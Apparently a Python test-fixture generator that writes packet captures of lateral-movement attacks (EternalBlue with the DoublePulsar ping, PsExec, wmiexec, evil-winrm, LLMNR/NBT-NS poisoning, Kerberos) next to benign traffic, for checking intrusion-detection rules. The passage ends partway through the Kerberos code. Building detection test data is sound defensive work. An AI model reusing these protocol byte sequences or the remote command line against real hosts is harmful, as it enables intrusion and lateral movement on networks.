#!/usr/bin/python3
"""Golden captures for signatures/rules/lateral-movement.rules: for each attack the protocol
bytes that the tool really sends (built field by field from the protocol specifications, with
the anomalous values the attack uses), and a benign counterpart of the same protocol.

Every builder returns (Capture, marks): marks names the pcap_cnt of the frames that the rules
must (or must not) fire on, so that tests/e2e/lateral_e2e.py can state its expectations per
frame. Deterministic: the same bytes every run (no randomness, fixed timestamps).

  web-01 10.20.0.11  compromised guest (attacker)      fs-01  10.20.0.21  file server
  db-01  10.20.0.12  victim / ordinary client           dc-01  10.20.0.10  domain controller
  app-01 10.20.0.13  Windows application server         dns    10.20.0.53  resolver
  rdp-01 10.20.0.14  Windows jump host

usage: make_lateral_pcaps.py OUTDIR      (writes OUTDIR/<scenario>.pcap for every scenario)
"""
import hashlib
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pcapgen import Capture, TcpSession, udp_packet  # noqa: E402

WEB, DB, APP, RDP, DC, FS, RESOLVER = ("10.20.0.11", "10.20.0.12", "10.20.0.13", "10.20.0.14", "10.20.0.10",
                                       "10.20.0.21", "10.20.0.53")
MAC = {WEB: "00:50:56:00:00:11", DB: "00:50:56:00:00:12", APP: "00:50:56:00:00:13", RDP: "00:50:56:00:00:14",
       DC: "00:50:56:00:00:10", FS: "00:50:56:00:00:21", RESOLVER: "00:50:56:00:00:53",
       "224.0.0.252": "01:00:5e:00:00:fc", "10.20.255.255": "ff:ff:ff:ff:ff:ff"}


def session(cap, client, server, cport, sport):
    return TcpSession(cap, client, server, cport, sport, MAC[client], MAC[server])


def udp(cap, src, dst, sport, dport, payload):
    return udp_packet(cap, src, dst, sport, dport, payload, MAC[src], MAC[dst])


def filler(label, size):
    """Deterministic opaque bytes (ciphertext, signatures, binaries) of `size` bytes."""
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{label}/{counter}".encode()).digest()
        counter += 1
    return out[:size]


def utf16(text):
    return text.encode("utf-16-le")


def nbss(message):
    """NetBIOS session service header (RFC 1002 4.3.1): type 0, 24-bit length."""
    return struct.pack(">I", len(message)) + message


# --- SMB1 (MS-CIFS) -------------------------------------------------------------------------------

def smb1(command, words, data, mid, reply=False, status=0, tid=0, uid=0, pid=0xfeff):
    flags = 0x98 if reply else 0x18  # reply bit, case-insensitive, canonical paths
    header = struct.pack("<4sBIBHH8sHHHHH", b"\xffSMB", command, status, flags, 0xc007, 0, b"\0" * 8, 0, tid,
                         pid, uid, mid)
    assert len(words) % 2 == 0
    return nbss(header + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data)


def smb1_negotiate(dialects, mid=0):
    return smb1(0x72, b"", b"".join(b"\x02" + d.encode() + b"\x00" for d in dialects), mid)


OLD_DIALECTS = ["PC NETWORK PROGRAM 1.0", "LANMAN1.0", "Windows for Workgroups 3.1a", "LM1.2X002", "LANMAN2.1",
                "NT LM 0.12"]


def smb1_negotiate_response(mid=0):
    # NT LM 0.12 chosen (index 5): WordCount 17.
    words = struct.pack("<HBHHIIIIQhB", 5, 0x03, 50, 1, 0x4104, 0x10000, 0, 0x8000e3fd, 0x01d9_0000_0000_0000, 0, 8)
    return smb1(0x72, words, filler("smb1-challenge", 8) + utf16("LAB\0"), mid, reply=True)


def smb1_session_setup(mid, uid=0):
    # Session Setup AndX, anonymous (empty LM/NT responses), WordCount 13.
    words = struct.pack("<BBHHHHIHHII", 0xff, 0, 0, 0x4104, 50, 0, 0, 0, 0, 0, 0x0000_00d4)
    return smb1(0x73, words, b"\x00" + utf16("\0") + utf16("Windows 7 Professional 7601\0") + utf16("\0"), mid,
                uid=uid)


def smb1_session_setup_response(mid, uid):
    return smb1(0x73, struct.pack("<BBHH", 0xff, 0, 0, 0), b"", mid, reply=True, uid=uid)


def smb1_tree_connect(mid, uid, path):
    words = struct.pack("<BBHHH", 0xff, 0, 0, 0x0008, 1)
    return smb1(0x75, words, b"\x00" + utf16(path + "\0") + b"?????\x00", mid, uid=uid)


def smb1_tree_connect_response(mid, uid, tid):
    return smb1(0x75, struct.pack("<BBHH", 0xff, 0, 0, 0x0001), b"IPC\x00", mid, reply=True, uid=uid, tid=tid)


def smb1_nt_trans(mid, uid, tid, function, total_data, data):
    """SMB_COM_NT_TRANSACT request (MS-CIFS 2.2.4.62.1): 19 + SetupCount words."""
    setup = b"\x00\x00"
    params = b"\x00" * 30
    words_len = 2 * (19 + 1)
    param_offset = 32 + 1 + words_len + 2 + 3  # header, WordCount, words, ByteCount, pad to 4
    data_offset = param_offset + len(params)
    words = struct.pack("<BHIIIIIIIIBH", 1, 0, len(params), total_data, 30, 0, len(params), param_offset,
                        len(data), data_offset, 1, function) + setup
    return smb1(0xa0, words, b"\x00" * 3 + params + data, mid, uid=uid, tid=tid)


def smb1_trans2_secondary(mid, uid, tid, total_data, displacement, data):
    """SMB_COM_TRANSACTION2_SECONDARY (MS-CIFS 2.2.4.47.1): 9 words."""
    data_offset = 32 + 1 + 18 + 2 + 1
    words = struct.pack("<HHHHHHHHH", 0, min(total_data, 0xffff), 0, 0, 0, len(data), data_offset, displacement, 0xffff)
    return smb1(0x33, words, b"\x00" + data, mid, uid=uid, tid=tid)


def smb1_trans2_session_setup(mid, uid, tid, timeout, params):
    """SMB_COM_TRANSACTION2 with subcommand TRANS2_SESSION_SETUP (0x000e): 15 words."""
    param_offset = 32 + 1 + 30 + 2 + 1
    words = struct.pack("<HHHHBBHIHHHHHBBH", len(params), 0, 1, 0, 0, 0, 0, timeout, 0, len(params), param_offset,
                        0, param_offset + len(params), 1, 0, 0x000e)
    return smb1(0x32, words, b"\x00" + params, mid, uid=uid, tid=tid)


# --- SMB2 (MS-SMB2) -------------------------------------------------------------------------------

class Smb2Client:
    """An SMB2 conversation over one TCP session; message ids and file ids in sequence."""

    def __init__(self, tcp):
        self.tcp, self.message_id, self.session_id, self.tree_id, self.next_file = tcp, 0, 0, 0, 1

    def _header(self, command, reply, status=0):
        flags = 0x00000001 if reply else 0
        return struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, status, command, 1, flags, 0, self.message_id,
                           0xfeff, self.tree_id, self.session_id, b"\0" * 16)

    def request(self, command, body):
        frame = self.tcp.send(nbss(self._header(command, False) + body))
        return frame

    def response(self, command, body, status=0):
        frame = self.tcp.send(nbss(self._header(command, True, status) + body), to_server=False)
        self.message_id += 1
        return frame

    def negotiate(self):
        dialects = [0x0202, 0x0210, 0x0300, 0x0302]
        body = struct.pack("<HHHHI16sQ", 36, len(dialects), 1, 0, 0x7f, filler("client-guid", 16), 0)
        self.request(0x0000, body + b"".join(struct.pack("<H", d) for d in dialects))
        self.response(0x0000, struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x0302, 0, filler("server-guid", 16), 0x2f,
                                          0x800000, 0x800000, 0x800000, 0, 0, 128, 0, 0))

    def session_setup(self, user):
        token = b"NTLMSSP\x00" + struct.pack("<I", 3) + filler("ntlm-" + user, 64) + utf16(user)
        self.request(0x0001, struct.pack("<HBBIIHHQ", 25, 0, 1, 1, 0, 88, len(token), 0) + token)
        self.session_id = 0x0000_4000_0000_0015
        self.response(0x0001, struct.pack("<HHHH", 9, 0, 72, 0))

    def tree_connect(self, path, tree_id, pipe=False):
        name = utf16(path)
        frame = self.request(0x0003, struct.pack("<HHHH", 9, 0, 72, len(name)) + name)
        self.tree_id = tree_id
        self.response(0x0003, struct.pack("<HBBIII", 16, 2 if pipe else 1, 0, 0x30 if pipe else 0, 0, 0x001f01ff))
        return frame

    def create(self, name, access, disposition=1, options=0x40):
        encoded = utf16(name)
        body = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, access, 0x80, 0x07, disposition, options, 120,
                           len(encoded), 0, 0) + encoded
        frame = self.request(0x0005, body)
        file_id = struct.pack("<QQ", self.next_file, 0x0000_0000_ffff_0000 + self.next_file)
        self.next_file += 1
        self.response(0x0005, struct.pack("<HBBIQQQQQQII16sII", 89, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0x80, 0, file_id, 0,
                                          0))
        return frame, file_id

    def write(self, file_id, data, offset=0):
        frame = self.request(0x0009, struct.pack("<HHIQ16sIIHHI", 49, 112, len(data), offset, file_id, 0, 0, 0, 0,
                                                 0) + data)
        self.response(0x0009, struct.pack("<HHIIHH", 17, 0, len(data), 0, 0, 0))
        return frame

    def read(self, file_id, data):
        self.request(0x0008, struct.pack("<HBBIQ16sIIIHH", 49, 0x50, 0, 1024, 0, file_id, 0, 0, 0, 0, 0) + b"\x00")
        self.response(0x0008, struct.pack("<HBBIII", 17, 80, 0, len(data), 0, 0) + data)

    def close(self, file_id):
        self.request(0x0006, struct.pack("<HHI16s", 24, 0, 0, file_id))
        self.response(0x0006, struct.pack("<HHIQQQQQQI", 60, 0, 0, 0, 0, 0, 0, 0, 0, 0x80))


# --- DCE/RPC (C706, MS-RPCE) ----------------------------------------------------------------------

NDR = bytes.fromhex("045d888aeb1cc9119fe808002b104860") + struct.pack("<I", 2)  # transfer syntax NDR 2.0


def uuid_le(text):
    """A UUID as DCE/RPC writes it: the first three fields little-endian."""
    hex_digits = text.replace("-", "")
    raw = bytes.fromhex(hex_digits)
    return raw[3::-1] + raw[5:3:-1] + raw[7:5:-1] + raw[8:]


SVCCTL = "367abb81-9844-35f1-ad32-98f038001003"
ISCMACTIVATOR = "000001a0-0000-0000-c000-000000000046"
IWBEMLEVEL1LOGIN = "f309ad18-d86a-11d0-a075-00c04fb68820"
IWBEMSERVICES = "9556dc99-828c-11cf-a37e-00aa003240c7"
CLSID_WBEMLEVEL1LOGIN = "8bc3f05e-d86b-11d0-a075-00c04fb68820"


def dce_bind(call_id, interface, version):
    body = struct.pack("<HHIB3x", 4280, 4280, 0, 1) + struct.pack("<HBx", 0, 1) + uuid_le(interface) + \
        struct.pack("<HH", version, 0) + NDR
    return struct.pack("<BBBB4sHHI", 5, 0, 11, 3, b"\x10\x00\x00\x00", 16 + len(body), 0, call_id) + body


def dce_bind_ack(call_id, port_spec):
    secondary = struct.pack("<H", len(port_spec) + 1) + port_spec + b"\x00"
    secondary += b"\x00" * ((-(24 + len(secondary))) % 4)
    body = struct.pack("<HHI", 4280, 4280, 0x1234) + secondary + struct.pack("<B3xHH", 1, 0, 0) + NDR
    return struct.pack("<BBBB4sHHI", 5, 0, 12, 3, b"\x10\x00\x00\x00", 16 + len(body), 0, call_id) + body


def dce_request(call_id, opnum, stub, object_uuid=None):
    flags = 0x03 | (0x80 if object_uuid else 0)
    header_len = 24 + (16 if object_uuid else 0)
    head = struct.pack("<BBBB4sHHIIHH", 5, 0, 0, flags, b"\x10\x00\x00\x00", header_len + len(stub), 0, call_id,
                       len(stub), 0, opnum)
    return head + (uuid_le(object_uuid) if object_uuid else b"") + stub


def dce_response(call_id, stub):
    return struct.pack("<BBBB4sHHIIHBB", 5, 0, 2, 3, b"\x10\x00\x00\x00", 24 + len(stub), 0, call_id, len(stub), 0,
                       0, 0) + stub


def ndr_wstring(text, referent):
    """A unique pointer to a conformant varying NUL-terminated UTF-16 string, padded to 4."""
    chars = len(text) + 1
    data = struct.pack("<IIII", referent, chars, 0, chars) + utf16(text + "\0")
    return data + b"\x00" * ((-len(data)) % 4)


def orpcthis(label):
    return struct.pack("<HHII", 5, 7, 0, 0) + filler(label, 16) + struct.pack("<I", 0)


def bstr(text):
    """A BSTR as DCOM marshals it (FLAGGED_WORD_BLOB behind a user-marshal pointer)."""
    units = len(text)
    return struct.pack("<IIIII", 0x72657355, units * 2, units * 2, units, units) + utf16(text)


# --- Scenarios: SMBv1 / MS17-010 ------------------------------------------------------------------

def eternalblue():
    """EternalBlue against fs-01 then the DoublePulsar ping: negotiate with SMB1 dialects only,
    anonymous session, IPC$, an NT Trans (function 0) announcing a 69,608-byte FEA list that
    Trans2 Secondary requests complete (the transaction type confusion), and a Trans2
    SESSION_SETUP whose reply carries multiplex id 0x51 (the implant answers)."""
    cap = Capture()
    s = session(cap, WEB, FS, 49310, 445)
    s.handshake()
    m = {"negotiate": s.send(smb1_negotiate(OLD_DIALECTS))}
    s.send(smb1_negotiate_response(), to_server=False)
    s.send(smb1_session_setup(mid=64))
    s.send(smb1_session_setup_response(64, uid=2048), to_server=False)
    s.send(smb1_tree_connect(64, 2048, "\\\\10.20.0.21\\IPC$"))
    s.send(smb1_tree_connect_response(64, 2048, tid=2049), to_server=False)
    fea_list = struct.pack("<I", 0x10000) + filler("fea", 1000)
    m["nt_trans"] = s.send(smb1_nt_trans(64, 2048, 2049, function=0, total_data=0x10fe8, data=fea_list))
    s.send(smb1(0xa0, b"", b"", 64, reply=True, uid=2048, tid=2049), to_server=False)  # interim response
    m["secondary"] = [s.send(smb1_trans2_secondary(64, 2048, 2049, 0x10fe8, 1000 + 1000 * i, filler(f"fea{i}", 1000)))
                      for i in range(3)]
    m["ping"] = s.send(smb1_trans2_session_setup(65, 2048, 2049, timeout=0x25891a00, params=b"\x00" * 12))
    m["ping_reply"] = s.send(smb1(0x32, b"", b"", 0x51, reply=True, status=0xc0000002, uid=2048, tid=2049),
                             to_server=False)
    s.close()
    return cap, m


def smb1_multiprotocol_negotiate():
    """Benign: a Windows client's multi-protocol negotiate (SMB1 framing offering SMB 2.002 and
    SMB 2.???), answered by SMB2, then an ordinary SMB1 negotiate is not seen again."""
    cap = Capture()
    s = session(cap, DB, FS, 49320, 445)
    s.handshake()
    m = {"negotiate": s.send(smb1_negotiate(["NT LM 0.12", "SMB 2.002", "SMB 2.???"]))}
    client = Smb2Client(s)
    client.response(0x0000, struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x02ff, 0, filler("server-guid", 16), 0x2f,
                                        0x800000, 0x800000, 0x800000, 0, 0, 128, 0, 0))
    s.close()
    return cap, m


# --- Scenarios: PsExec over SMB2 ------------------------------------------------------------------

def svcctl_stub_create(handle, name, path):
    return (handle + ndr_wstring(name, 0x20000)[4:] + ndr_wstring(name, 0x20004) +
            struct.pack("<IIIII", 0x000f01ff, 0x10, 3, 0, 0) + ndr_wstring(path, 0x20008)[4:] +
            struct.pack("<IIIIIII", 0, 0, 0, 0, 0, 0, 0))


def psexec():
    """PsExec from web-01 to fs-01: ADMIN$ tree, PSEXESVC.exe written, \\PIPE\\svcctl bound,
    OpenSCManagerW, CreateServiceW, StartServiceW, then the PSEXESVC control and stdin pipes."""
    cap = Capture()
    s = session(cap, WEB, FS, 49400, 445)
    s.handshake()
    c = Smb2Client(s)
    c.negotiate()
    c.session_setup("administrator")
    m = {"tree_admin": c.tree_connect("\\\\10.20.0.21\\ADMIN$", 1)}
    m["create_exe"], exe = c.create("PSEXESVC.exe", 0x0012019f, disposition=5)
    binary = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"This program cannot be run in DOS mode.\r\r\n$" + \
        filler("psexesvc-binary", 900)
    m["write_exe"] = c.write(exe, binary)
    c.close(exe)
    c.tree_connect("\\\\10.20.0.21\\IPC$", 5, pipe=True)
    m["create_svcctl"], pipe = c.create("svcctl", 0x0012019f)
    m["bind"] = c.write(pipe, dce_bind(1, SVCCTL, 2))
    c.read(pipe, dce_bind_ack(1, b"\\PIPE\\svcctl"))
    m["open_scm"] = c.write(pipe, dce_request(2, 15, ndr_wstring("10.20.0.21", 0x20000) + struct.pack("<II", 0,
                                                                                                      0x000f003f)))
    scm = b"\x00" * 4 + filler("scm-handle", 16)
    c.read(pipe, dce_response(2, scm + b"\x00" * 4))
    stub = svcctl_stub_create(scm, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    m["create_service"] = c.write(pipe, dce_request(3, 12, stub))
    service = b"\x00" * 4 + filler("service-handle", 16)
    c.read(pipe, dce_response(3, b"\x00" * 4 + service + b"\x00" * 4))
    m["start_service"] = c.write(pipe, dce_request(4, 19, service + struct.pack("<II", 0, 0)))
    c.read(pipe, dce_response(4, b"\x00" * 4))
    m["create_pipe"], control = c.create("PSEXESVC", 0x0012019f)
    m["create_stdin"], _ = c.create("PSEXESVC-WEB01-4242-stdin", 0x0012019f)
    s.close()
    return cap, m


def smb2_file_copy():
    """Benign: db-01 copies files to fs-01's data share (an .xlsx and an installer .exe, both for
    writing), and an administrator's `sc query` binds svcctl and enumerates services."""
    cap = Capture()
    s = session(cap, DB, FS, 49500, 445)
    s.handshake()
    c = Smb2Client(s)
    c.negotiate()
    c.session_setup("alice")
    m = {"tree": c.tree_connect("\\\\fs-01\\data", 1)}
    m["create_xlsx"], f = c.create("reports\\q3.xlsx", 0x0012019f, disposition=5)
    c.write(f, b"PK\x03\x04" + filler("xlsx", 1200))
    c.close(f)
    m["create_exe"], f = c.create("installers\\agent.exe", 0x0012019f, disposition=5)
    c.write(f, b"MZ\x90\x00" + filler("agent", 800))
    c.close(f)
    c.tree_connect("\\\\fs-01\\IPC$", 5, pipe=True)
    _, pipe = c.create("svcctl", 0x0012019f)
    m["bind"] = c.write(pipe, dce_bind(1, SVCCTL, 2))
    c.read(pipe, dce_bind_ack(1, b"\\PIPE\\svcctl"))
    c.write(pipe, dce_request(2, 15, ndr_wstring("fs-01", 0x20000) + struct.pack("<II", 0, 0x00000005)))
    scm = b"\x00" * 4 + filler("scm-handle-2", 16)
    c.read(pipe, dce_response(2, scm + b"\x00" * 4))
    m["enum"] = c.write(pipe, dce_request(3, 14, scm + struct.pack("<IIII", 0x30, 3, 0x4000, 0)))
    c.read(pipe, dce_response(3, filler("enum", 200)))
    s.close()
    return cap, m


# --- Scenarios: WMI and WinRM ---------------------------------------------------------------------

def wmiexec():
    """wmiexec-style remote execution on app-01 at packet integrity (the stubs are signed, not
    sealed): RemoteCreateInstance of WbemLevel1Login on 135, then on the returned port
    IWbemLevel1Login::NTLMLogin to root\\cimv2 and IWbemServices::ExecMethod(Win32_Process, Create)."""
    cap = Capture()
    s = session(cap, WEB, APP, 49600, 135)
    s.handshake()
    s.send(dce_bind(1, ISCMACTIVATOR, 0))
    s.send(dce_bind_ack(1, b"135"), to_server=False)
    activation = (orpcthis("activation") + struct.pack("<II", 0, 0x20000) + struct.pack("<III", 0x2e8, 0x2e8,
                  0x574f454d) + struct.pack("<I", 4) + uuid_le("000001a2-0000-0000-c000-000000000046") +
                  filler("activation-properties-header", 40) + uuid_le(CLSID_WBEMLEVEL1LOGIN) +
                  struct.pack("<III", 0, 1, 0) + uuid_le(IWBEMLEVEL1LOGIN) + filler("scm-request-info", 64))
    m = {"activation": s.send(dce_request(2, 4, activation))}
    s.send(dce_response(2, filler("oxid-bindings", 120) + utf16("10.20.0.13[49667]\0")), to_server=False)
    s.close()
    w = session(cap, WEB, APP, 49601, 49667)
    w.handshake()
    w.send(dce_bind(1, IWBEMLEVEL1LOGIN, 0))
    w.send(dce_bind_ack(1, b"49667"), to_server=False)
    ipid = "00007c00-0b7c-ffff-5a3e-9b4a1f6c2d10"
    w.send(dce_request(2, 6, orpcthis("login") + ndr_wstring("//./root/cimv2", 0x20000) + b"\x00" * 12, ipid))
    w.send(dce_response(2, filler("services-objref", 160)), to_server=False)
    w.send(dce_bind(3, IWBEMSERVICES, 0))
    w.send(dce_bind_ack(3, b"49667"), to_server=False)
    command = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1795165200.55 2>&1"
    stub = (orpcthis("exec") + bstr("Win32_Process") + struct.pack("<I", 0) + bstr("Create") + struct.pack("<II", 0, 0)
            + struct.pack("<I", 0x20004) + filler("in-params-header", 32) + utf16("CommandLine") + b"\x00" * 2 +
            utf16(command))
    m["exec_method"] = w.send(dce_request(4, 24, stub, ipid))
    w.send(dce_response(4, filler("out-params", 96)), to_server=False)
    w.close()
    return cap, m


def wmi_monitoring():
    """Benign: a monitoring agent's WMI query over an established IWbemServices connection
    (ExecQuery, opnum 20, of Win32_Process names): no activation in this capture, no ExecMethod."""
    cap = Capture()
    w = session(cap, DB, APP, 49700, 49667)
    w.handshake()
    w.send(dce_bind(1, IWBEMSERVICES, 0))
    w.send(dce_bind_ack(1, b"49667"), to_server=False)
    ipid = "00007c00-0b7c-ffff-5a3e-9b4a1f6c2d11"
    m = {"exec_query": w.send(dce_request(2, 20, orpcthis("query") + bstr("WQL") + struct.pack("<I", 0) +
                                          bstr("SELECT Name FROM Win32_Process") + struct.pack("<II", 0x10, 0), ipid))}
    w.send(dce_response(2, filler("enum-objref", 120)), to_server=False)
    w.close()
    return cap, m


WSMAN = "http://schemas.xmlsoap.org/ws/2004/08/addressing"


def soap(action, body, resource="http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd", shell=None):
    selector = f'<w:SelectorSet><w:Selector Name="ShellId">{shell}</w:Selector></w:SelectorSet>' if shell else ""
    return (f'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="{WSMAN}" '
            'xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd" '
            'xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell"><s:Header>'
            '<a:To>http://10.20.0.13:5985/wsman</a:To>'
            f'<w:ResourceURI s:mustUnderstand="true">{resource}</w:ResourceURI>'
            f'<a:Action s:mustUnderstand="true">{action}</a:Action>{selector}'
            '<a:MessageID>uuid:5b7c2f14-0a1e-4c8e-9d55-3f1f2f6b9a01</a:MessageID></s:Header>'
            f'<s:Body>{body}</s:Body></s:Envelope>').encode()


def http_post(path, body, content_type, authorization=None):
    head = f"POST {path} HTTP/1.1\r\nHost: 10.20.0.13:5985\r\nUser-Agent: Ruby WinRM Client (2.8.3, ruby 3.1.2)\r\n"
    if authorization:
        head += f"Authorization: {authorization}\r\n"
    head += f"Content-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def http_ok(body, content_type="application/soap+xml;charset=UTF-8"):
    return (f"HTTP/1.1 200 \r\nContent-Type: {content_type}\r\nServer: Microsoft-HTTPAPI/2.0\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def winrm_shell():
    """evil-winrm-style shell on app-01 over HTTP 5985 with Basic auth and AllowUnencrypted:
    the Create (cmd shell) request, then the shell Command request running `whoami /all`."""
    cap = Capture()
    s = session(cap, WEB, APP, 49800, 5985)
    s.handshake()
    basic = "Basic YWRtaW5pc3RyYXRvcjpQQHNzdzByZCE="
    create = soap("http://schemas.xmlsoap.org/ws/2004/09/transfer/Create",
                  "<rsp:Shell><rsp:InputStreams>stdin</rsp:InputStreams><rsp:OutputStreams>stdout stderr"
                  "</rsp:OutputStreams></rsp:Shell>")
    m = {"create": s.send(http_post("/wsman", create, "application/soap+xml;charset=UTF-8", basic))}
    shell = "C0A2F6B1-6D1E-4B0F-8A55-0F6F4C8E2D11"
    s.send(http_ok(f"<s:Envelope><s:Body><rsp:ShellId>{shell}</rsp:ShellId></s:Body></s:Envelope>".encode()),
           to_server=False)
    command = soap("http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command",
                   "<rsp:CommandLine><rsp:Command>whoami</rsp:Command><rsp:Arguments>/all</rsp:Arguments>"
                   "</rsp:CommandLine>", shell=shell)
    m["command"] = s.send(http_post("/wsman", command, "application/soap+xml;charset=UTF-8", basic))
    s.send(http_ok(b"<s:Envelope><s:Body><rsp:CommandResponse><rsp:CommandId>1</rsp:CommandId>"
                   b"</rsp:CommandResponse></s:Body></s:Envelope>"), to_server=False)
    s.close()
    return cap, m


def winrm_encrypted():
    """PowerShell remoting from web-01 to app-01 with Negotiate message encryption: two POSTs
    whose bodies are multipart/encrypted (HTTP-SPNEGO-session-encrypted)."""
    cap = Capture()
    s = session(cap, WEB, APP, 49810, 5985)
    s.handshake()
    boundary = "Encrypted Boundary"
    content_type = f'multipart/encrypted;protocol="application/HTTP-SPNEGO-session-encrypted";boundary="{boundary}"'
    m = {"posts": []}
    for i in range(2):
        body = (f"--{boundary}\r\n\tContent-Type: application/HTTP-SPNEGO-session-encrypted\r\n"
                f"\tOriginalContent: type=application/soap+xml;charset=UTF-8;Length=1832\r\n--{boundary}\r\n"
                "\tContent-Type: application/octet-stream\r\n").encode() + filler(f"sealed{i}", 400) + \
            f"--{boundary}--\r\n".encode()
        m["posts"].append(s.send(http_post("/wsman?PSVersion=5.1.17763.592", body, content_type,
                                           "Kerberos " + "YII" + "A" * 40)))
        s.send(http_ok(filler(f"sealed-reply{i}", 300), content_type), to_server=False)
    s.close()
    return cap, m


def winrm_identify():
    """Benign: an inventory scanner's unauthenticated WS-Management Identify request."""
    cap = Capture()
    s = session(cap, DB, APP, 49820, 5985)
    s.handshake()
    body = (b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
            b'xmlns:wsmid="http://schemas.dmtf.org/wbem/wsman/identity/1/wsmanidentity.xsd"><s:Header/>'
            b'<s:Body><wsmid:Identify/></s:Body></s:Envelope>')
    m = {"identify": s.send(http_post("/wsman", body, "application/soap+xml;charset=UTF-8"))}
    s.send(http_ok(b"<s:Envelope><s:Body><wsmid:IdentifyResponse><wsmid:ProductVendor>Microsoft Corporation"
                   b"</wsmid:ProductVendor></wsmid:IdentifyResponse></s:Body></s:Envelope>"), to_server=False)
    s.close()
    return cap, m


# --- Scenarios: LLMNR and NBT-NS ------------------------------------------------------------------

def dns_name(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".") if label) + b"\x00"


def llmnr_query(txid, name):
    return struct.pack(">HHHHHH", txid, 0x0000, 1, 0, 0, 0) + dns_name(name) + struct.pack(">HH", 1, 1)


def llmnr_answer(txid, name, address):
    question = dns_name(name) + struct.pack(">HH", 1, 1)
    answer = dns_name(name) + struct.pack(">HHIH", 1, 1, 30, 4) + bytes(int(x) for x in address.split("."))
    return struct.pack(">HHHHHH", txid, 0x8000, 1, 1, 0, 0) + question + answer


def netbios_name(name, suffix=0x20):
    raw = name.upper().ljust(15).encode() + bytes([suffix])
    return b"\x20" + bytes(c for b in raw for c in (0x41 + (b >> 4), 0x41 + (b & 0x0f))) + b"\x00"


def nbns_query(txid, name):
    return struct.pack(">HHHHHH", txid, 0x0110, 1, 0, 0, 0) + netbios_name(name) + struct.pack(">HH", 0x20, 1)


def nbns_positive_response(txid, name, address):
    return (struct.pack(">HHHHHH", txid, 0x8500, 0, 1, 0, 0) + netbios_name(name) +
            struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + bytes(int(x) for x in address.split(".")))


def llmnr_poisoning():
    """Responder on web-01 answers db-01's LLMNR queries for a mistyped share host and for wpad
    with its own address."""
    cap = Capture()
    m = {"query": udp(cap, DB, "224.0.0.252", 55001, 5355, llmnr_query(0x4a11, "fileserv"))}
    m["answer"] = udp(cap, WEB, DB, 5355, 55001, llmnr_answer(0x4a11, "fileserv", WEB))
    udp(cap, DB, "224.0.0.252", 55002, 5355, llmnr_query(0x4a12, "wpad"))
    m["answer2"] = udp(cap, WEB, DB, 5355, 55002, llmnr_answer(0x4a12, "wpad", WEB))
    return cap, m


def nbtns_poisoning():
    """Responder on web-01 answers db-01's broadcast NBT-NS query for FILESERV<20>."""
    cap = Capture()
    m = {"query": udp(cap, DB, "10.20.255.255", 137, 137, nbns_query(0x8001, "FILESERV"))}
    m["answer"] = udp(cap, WEB, DB, 137, 137, nbns_positive_response(0x8001, "FILESERV", WEB))
    return cap, m


def name_queries_unanswered():
    """Benign: db-01's LLMNR query and NBT-NS broadcast query that nobody answers (no poisoner)."""
    cap = Capture()
    m = {"llmnr": udp(cap, DB, "224.0.0.252", 55010, 5355, llmnr_query(0x4b01, "printer7")),
         "nbns": udp(cap, DB, "10.20.255.255", 137, 137, nbns_query(0x8101, "PRINTER7"))}
    return cap, m


# --- Scenarios: Kerberos --------------------------------------------------------------------------

def der(tag, content):
    n = len(content)
    if n < 0x80:
        length = bytes([n])
    elif n < 0x100:
        length = bytes([0x81, n])
    else:
        length = bytes([0x82, n >> 8, n & 0xff])
    return bytes([tag]) + length + content


def der_int(value):
    raw = value.to_bytes(max(1, (value.bit_length() + 8) // 8), "big", signed=True)
    return der(0x02, raw)


def ctx(n, content):
    return der(0xa0 + n, content)


def seq(*items):
    return der(0x30, b"".join(items))


def gstring(text):
    return der(0x1b, text.encode())


def principal(name_type, *names):
    return seq(ctx(0, der_int(name_type)), ctx(1, seq(*(gstring(n) for n in names))))


def encrypted(etype, kvno, label, size):
    return seq(ctx(0, der_int(etype)), *( [ctx(1, der_int(kvno))] if kvno is not None else []),
               ctx(2, der(0x04, filler(label, size))))


def tgs_req(spn, etypes, nonce, tgt_size=1040):
    service, host = spn.split("/", 1)
    ticket = der(0x61, seq(ctx(0, der_int(5)), ctx(1, gstring("LAB.LOCAL")),
                           ctx(2, principal(2, "krbtgt", "LAB.LOCAL")), ctx(3, encrypted(18, 2, "tgt", tgt_size))))
    ap_req = der(0x6e, seq(ctx(0, der_int(5)), ctx(1, der_int(14)), ctx(2, der(0x03, b"\x00\x00\x00\x00\x00")),
                           ctx(3, ticket), ctx(4, encrypted(18, None, f"auth{nonce}", 180))))
    padata = ctx(3, seq(seq(ctx(1, der_int(1)), ctx(2, der(0x04, ap_req)))))
    body = seq(ctx(0, der(0x03, b"\x00\x40\x81\x00\x10")), ctx(2, gstring("LAB.LOCAL")),
               ctx(3, principal(2, service, host)), ctx(5, der(0x18, b"20370913024805Z")),
               ctx(7, der_int(nonce)), ctx(8, seq(*(der_int(e) for e in etypes))))
    return der(0x6c, seq(ctx(1, der_int(5)), ctx(2, der_int(12)), padata, ctx(4, body)))


def tgs_rep(spn, etype, nonce, ticket_size=1100):
    service, host = spn.split("/", 1)
    ticket = der(0x61, seq(ctx(0, der_int(5)), ctx(1, gstring("LAB.LOCAL")), ctx(2, principal(2, service, host)),
                           ctx(3, encrypted(etype, 3, f"svc-ticket{nonce}", ticket_size))))
